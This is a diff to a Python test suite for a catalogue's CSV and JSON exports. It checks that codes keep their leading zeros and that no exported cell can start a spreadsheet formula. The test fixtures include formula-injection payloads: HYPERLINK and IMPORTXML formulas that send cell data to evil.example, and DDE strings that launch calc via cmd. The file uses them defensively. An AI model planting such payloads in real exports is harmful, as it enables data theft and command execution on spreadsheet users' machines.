@@ -1,4 +1,5 @@
-"""Open data: the CSV round-trips through Python's csv module with the same data as the JSON; the sales points match catalogue.yaml."""
+"""Open data: the CSV round-trips through Python's csv module with the same data as the JSON (made for
+spreadsheets: no cell starts a formula, codes keep their zeros); the sales points match catalogue.yaml."""
 
 from __future__ import annotations
 
@@ -8,9 +9,14 @@ import json
 from datetime import date
 from pathlib import Path
 
+import pytest
 import yaml
 
-from catalogue.exports import CSV_COLUMNS
+from catalogue.dashboard import dashboard
+from catalogue.exports import CSV_COLUMNS, products_csv, re_evaluation_csv
+from catalogue.pages.i18n import format_phone
+from catalogue.spreadsheet import Code, cell
+from catalogue.validate import validate
 
 from .conftest import REPO
 
@@ -25,14 +31,109 @@ def test_json_has_every_product_with_its_status(demo_site: Path) -> None:
     assert all(r["url"] == f"{document['site_url']}p/{r['id']}/" for r in document["products"])
 
 
+def spreadsheet_value(key: str, value: object) -> str:
+    """What products.csv holds for a products.json value: phones grouped, GTINs kept as text."""
+    if value is None:
+        return ""
+    if key == "producer_phone":
+        return format_phone(str(value))
+    if key == "gtin":
+        return f"'{value}"
+    return str(value)
+
+
 def test_csv_round_trips_with_the_same_data_as_the_json(demo_site: Path) -> None:
     raw = (demo_site / "data" / "products.csv").read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
     rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
     records = json.loads((demo_site / "data" / "products.json").read_text(encoding="utf-8"))["products"]
     assert list(rows[0]) == CSV_COLUMNS
-    assert rows == [{k: "" if v is None else str(v) for k, v in r.items()} for r in records]
+    assert rows == [{k: spreadsheet_value(k, v) for k, v in r.items()} for r in records]
     assert any(row["name"] == "Mật ong Pa Ủ" for row in rows)
+    assert all(row["producer_phone"].startswith("0") and " " in row["producer_phone"] for row in rows)
+    assert {row["gtin"][:2] for row in rows if row["gtin"]} == {"'0"}  # GTIN-14 keeps its leading zero in Excel
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
+    "certificate.number": "-2+3+cmd|' /C calc'!A0",
+    "certificate.issuer": "@SUM(A1:A9)",
+    "certificate.decision": "=1+1",
+    "certificate.revoked.reason": "+THIS()",
+    "price.unit": "-1",
+    "translations.en.name": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+    "producer.name": "=cmd|' /C calc'!A0",
+}
+
+
+def hostile_catalogue(root: Path) -> None:
+    """The base catalogue with a formula in every text that goes into a CSV, and the product revoked
+    (so that it is in the re-evaluation list too)."""
+    path = root / "products" / "base-product.yaml"
+    data = yaml.safe_load(path.read_text(encoding="utf-8"))
+    data["certificate"]["revoked"] = {"date": "2026-05-10", "reason": "x"}
+    for dotted, value in HOSTILE.items():
+        if dotted.startswith("producer."):
+            continue
+        *parents, last = dotted.split(".")
+        target = data
+        for part in parents:
+            target = target[part]
+        target[last] = value
+    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    producer = root / "producers" / "base-producer.yaml"
+    text = producer.read_text(encoding="utf-8").replace("name: Hợp tác xã Chè Tả Lèng", f"name: {json.dumps(HOSTILE['producer.name'])}")
+    producer.write_text(text, encoding="utf-8")
+
+
+def csv_cells(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def test_no_cell_of_either_csv_can_start_a_formula(base_catalogue: Path) -> None:
+    hostile_catalogue(base_catalogue)
+    today = date(2026, 11, 28)
+    catalogue, report = validate(Path("products"), Path("producers"), today=today)
+    assert report.ok, report.to_text()
+    files = {"products.csv": products_csv(catalogue, today), "re-evaluation.csv": re_evaluation_csv(catalogue, dashboard(catalogue, today))}
+    for name, data in files.items():
+        rows = csv_cells(data)
+        assert len(rows) == 2, name
+        assert all(not value.startswith(FORMULA_STARTS) for row in rows for value in row), name
+    products = dict(zip(*csv_cells(files["products.csv"]), strict=True))
+    assert products["name"] == "'" + HOSTILE["name"] and products["producer_name"] == "'" + HOSTILE["producer.name"]
+    assert products["certificate_number"] == "'" + HOSTILE["certificate.number"] and products["price_unit"] == "'-1"
+    assert (products["producer_phone"], products["gtin"], products["stars"]) == ("0912 345 678", "'08936000120016", "4")
+    due = dict(zip(*csv_cells(files["re-evaluation.csv"]), strict=True))
+    assert due["revoked_reason"] == "'+THIS()" and due["product_name_en"] == "'" + HOSTILE["translations.en.name"]
+    assert (due["situation"], due["producer_phone"]) == ("revoked", "0912 345 678")
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+84 912 345 678", "'+84 912 345 678"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\0", "'\0"),
+        ("Mật ong = ngọt", "Mật ong = ngọt"),
+        (-5, "-5"),  # a number is not a formula
+        (4, "4"),
+        (None, ""),
+        ("0912 345 678", "0912 345 678"),
+        ("0912345678", "'0912345678"),  # digits with a leading zero stay text
+        ("8936000120016", "'8936000120016"),  # 13 digits: Excel would show 8.936E+12
+        ("6200000999", "6200000999"),
+        (Code("6200000999"), "'6200000999"),  # a tax code is a code, whatever its digits
+        ("2026-11-28", "2026-11-28"),
+    ],
+)
+def test_cell(value: object, written: str) -> None:
+    assert cell(value) == written
 
 
 def test_schema_describes_every_field(demo_site: Path) -> None:
